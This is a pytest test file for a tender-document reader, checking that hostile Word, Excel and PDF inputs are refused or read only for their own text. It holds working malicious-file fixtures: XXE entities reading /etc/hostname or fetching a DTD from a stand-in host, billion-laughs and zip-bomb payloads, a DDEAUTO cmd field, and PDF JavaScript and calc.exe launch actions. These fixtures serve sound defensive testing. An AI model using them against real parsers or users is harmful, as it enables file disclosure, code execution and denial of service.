"""Word, Excel and PDF files made to reach out, to blow up or to run for ever: nothing but their own text is ever read."""

from __future__ import annotations

import io
import socket
import zipfile
import zlib
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from tender_kit.core.errors import LimitExceeded, TenderKitError, UnreadableSource
from tender_kit.document.layout import Layout
from tender_kit.document.sources import Limits, read_layout
from tender_kit.document.sources.limits import parse_limits

from .shapes import texts

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RELATIONS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEETS = '<sheet name="清单" r:id="r1"/><sheet name="外" r:id="r2"/>'
SECRET = "不该读到的内容"
LAUGHS = '<!ENTITY a "哈哈哈哈哈哈哈哈">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise("abcdefghij"))


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: Any, **__: Any) -> None:
        raise AssertionError("a reader asked for the network")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def packed(parts: dict[str, str | bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in {"[Content_Types].xml": "<Types/>", **parts}.items():
            package.writestr(name, content)
    return target.getvalue()


def word(body: str, *, doctype: str = "", **parts: str | bytes) -> bytes:
    document = f"{doctype}<w:document {W} {R}><w:body><w:p><w:r><w:t>正文</w:t></w:r></w:p>{body}</w:body></w:document>"
    return packed({"word/document.xml": document, **{name.replace("__", "/"): content for name, content in parts.items()}})


def excel(rows: str, *, doctype: str = "", links: str = "", **parts: str | bytes) -> bytes:
    sheet = f'<Relationship Id="r1" Type="{KIND}/worksheet" Target="worksheets/sheet1.xml"/>'
    return packed(
        {
            "xl/workbook.xml": f"<workbook {S} {R}><sheets>{SHEETS}</sheets></workbook>",
            "xl/_rels/workbook.xml.rels": f"<Relationships {RELATIONS}>{sheet}{links}</Relationships>",
            "xl/worksheets/sheet1.xml": f"{doctype}<worksheet {S}><sheetData>{rows}</sheetData></worksheet>",
            **{name.replace("__", "/"): content for name, content in parts.items()},
        }
    )


def cell(text: str) -> str:
    return f'<row><c t="inlineStr"><is><t>{text}</t></is></c></row>'


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("make", [word, excel])
@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE d SYSTEM "http://x.example/evil.dtd">',
        '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://x.example/p"> %p;]>',
        f"<!DOCTYPE d [{LAUGHS}]>",
    ],
)
def test_a_document_type_is_refused_before_its_entities_are_read(make: Any, declared: str, encoding: str) -> None:
    part = "word/document.xml" if make is word else "xl/worksheets/sheet1.xml"
    data = make('<w:p a="&j;">&x;&j;</w:p>' if make is word else cell("&x;&j;"), doctype=declared)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts: dict[str, str | bytes] = {name: package.read(name) for name in package.namelist()}
    parts[part] = package_text(parts[part]).encode(encoding)
    with pytest.raises(UnreadableSource):
        read_layout(packed(parts))


def package_text(part: str | bytes) -> str:
    return part if isinstance(part, str) else part.decode()


def test_relationships_that_lead_outside_are_not_followed(tmp_path: Path) -> None:
    (tmp_path / "secret.xml").write_text(f"<worksheet {S}><sheetData>{cell(SECRET)}</sheetData></worksheet>", "utf-8")
    outside = (tmp_path / "secret.xml").as_uri()
    for mode in ('TargetMode="External"', ""):
        for target in (outside, "http://x.example/a.xml", "../../../../etc/hostname", str(tmp_path / "secret.xml")):
            link = f'<Relationship Id="r2" Type="{KIND}/worksheet" Target="{target}" {mode}/>'
            assert texts(read_layout(excel(cell("正文"), links=link))) == ["清单", "正文"]
    chunk = f'<Relationship Id="r9" Type="{KIND}/aFChunk" Target="{outside}" TargetMode="External"/>'
    rels = f"<Relationships {RELATIONS}>{chunk}</Relationships>"
    layout = read_layout(word('<w:altChunk r:id="r9"/><w:subDoc r:id="r9"/>', word___rels__document_xml_rels=rels))
    assert texts(layout) == ["正文"]
    assert [code for code, _, _ in layout.notes] == ["source.part_unread"]


def test_macros_fields_and_objects_are_not_run_nor_read() -> None:
    field = f'<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd "{SECRET}"</w:instrText></w:r></w:p>'
    inner = word(f"<w:p><w:r><w:t>{SECRET}</w:t></w:r></w:p>")
    data = word(field, word__vbaProject_bin=b"Shell", word__embeddings__a_docx=inner, word__afchunk_mht=SECRET)
    assert texts(read_layout(data)) == ["正文"]
    formula = '<row><c t="str"><f>WEBSERVICE("http://x.example")</f><v>缓存</v></c></row>'
    assert texts(read_layout(excel(formula, xl__vbaProject_bin=b"Shell", xl__connections_xml="<x/>"))) == ["清单", "缓存"]


def test_zips_in_zips_are_not_opened() -> None:
    inner = word("")
    for _ in range(20):
        inner = packed({"word/a.docx": inner})
    with pytest.raises(UnreadableSource):
        read_layout(inner)


@pytest.mark.parametrize("make", [word, excel])
def test_packages_that_inflate_are_refused_with_the_limit(make: Any) -> None:
    with pytest.raises(LimitExceeded, match="压缩比"):
        read_layout(make("", docProps__app_xml=b" " * 20_000_000))
    for limit in ("decompressed=2000", "entries=2", "elements=5", "bytes=100"):
        option = limit.partition("=")[0]
        data = make("<w:p/>" * 9 if make is word else cell("甲") * 9, docProps__app_xml="x" * 3000)
        with pytest.raises(LimitExceeded, match=rf"Limits\({option}=…\).*--limit {option}=\d+") as caught:
            read_layout(data, limits=parse_limits([limit]))
        assert f"--limit {option}=" in caught.value.english


def test_tables_nested_too_deep_are_read_as_paragraphs_and_said() -> None:
    row = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>甲</w:t></w:r></w:p></w:tc><w:tc>"
    for depth in (5, 60):
        data = word(row * depth + "<w:p><w:r><w:t>最里</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * depth)
        layout = read_layout(data, limits=Limits(depth=3))
        assert "最里" in spoken(layout)
        assert [code for code, _, _ in layout.notes] == ["source.depth"]
    html = read_layout("<table><tr><td>甲<td>" * 6 + "最里", limits=Limits(depth=3))
    assert "最里" in spoken(html)
    assert "source.depth" in [code for code, _, _ in html.notes]
    assert read_layout("<table><tr><td>甲<td>" * 6 + "最里").notes == []


def test_a_body_nested_without_end_is_read_to_the_break_and_said() -> None:
    layout = read_layout(word("<w:sdt>" * 100_000))
    assert texts(layout) == ["正文"]
    assert [code for code, _, _ in layout.notes] == ["source.damaged"]


def spoken(layout: Layout) -> str:
    return repr(layout.parts)


@pytest.mark.parametrize("option", ["pages", "pages=", "pages=-1", "pages=0", "pages=x", "page=5", "=5", "pages=²"])
def test_limits_that_make_no_sense_are_refused_with_their_names(option: str) -> None:
    with pytest.raises(TenderKitError, match="table_cells"):
        parse_limits([option])


# ---------------------------------------------------------------- PDF

SHOWN = b"BT /F1 12 Tf 80 700 Td (Budget amount 500000 yuan for services) Tj ET\n"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> %s >> /Contents 4 0 R >>"


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), more, data)


def pdf(
    catalog: bytes = b"", kids: bytes = b"5 0 R", content: bytes = b"", trailer: bytes = b"", objects: tuple[bytes, ...] = ()
) -> bytes:
    pages = b"<< /Type /Pages /Count 1 /Kids [%s] >>" % kids
    page = PAGE % (b"/XObject << /X0 6 0 R >>" if objects else b"")
    target, places = b"%PDF-1.4\n", []
    whole = (b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog, pages, FONT, content or stream(SHOWN), page, *objects)
    for number, each in enumerate(whole, 1):
        places.append(len(target))
        target += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = (len(whole) + 1, table, len(whole) + 1, trailer.replace(b"HERE", b"%d" % len(target)), len(target))
    return target + b"xref\n0 %d\n0000000000 65535 f \n%strailer << /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF" % end


def form(number: int) -> bytes:
    """A form that draws the next one ten times."""
    resources = b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X0 %d 0 R >> >>" % (number + 1)
    return stream(b"/X0 Do\n" * 10, resources)


READ = {
    "actions": pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> /AA << /WC << /S /Launch /F (calc.exe) >> >>"),
    "links": pdf(b"/OpenAction << /S /URI /URI (http://x.example/) >> /URI << /Base (http://x.example) >>"),
    "embedded files": pdf(b"/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>"),
    "xref that leads back": pdf(trailer=b"/Prev HERE"),
}
REFUSED = {
    "a page tree that leads back": pdf(kids=b"2 0 R 5 0 R"),
    "a page tree without end": pdf(kids=b"6 0 R", objects=tuple(b"<< /Type /Pages /Kids [%d 0 R] >>" % n for n in range(7, 999))),
    "arrays in arrays": pdf(b"/X " + b"[" * 100_000),
    "a length that is itself": pdf(content=b"<< /Length 4 0 R >>\nstream\nx\nendstream"),
    "a stream that inflates": pdf(content=stream(zlib.compress(SHOWN * 2_000_000, 9), b"/Filter /FlateDecode")),
    "pages without end": pdf(kids=b"5 0 R " * 5_000),
}


@pytest.mark.parametrize("name", READ)
def test_actions_and_links_of_a_pdf_are_nothing(name: str) -> None:
    assert [text.strip() for text in texts(read_layout(READ[name]))] == ["Budget amount 500000 yuan for services"]


@pytest.mark.parametrize("name", REFUSED)
def test_a_pdf_that_leads_in_circles_or_inflates_is_refused(name: str) -> None:
    with pytest.raises(TenderKitError) as caught:
        read_layout(REFUSED[name])
    assert "OCR" not in caught.value.message or name == "a length that is itself"


def test_forms_that_draw_forms_end() -> None:
    data = pdf(content=stream(b"/X0 Do\n" + SHOWN), objects=tuple(form(n) for n in range(6, 16)))
    assert "500000" in spoken(read_layout(data))


def test_one_stream_on_many_pages_counts_each_time() -> None:
    data = pdf(kids=b"5 0 R " * 30, content=stream(SHOWN * 10))
    assert read_layout(data, limits=Limits(decompressed=40_000)).parts
    with pytest.raises(LimitExceeded, match="decompressed"):
        read_layout(data, limits=Limits(decompressed=10_000))
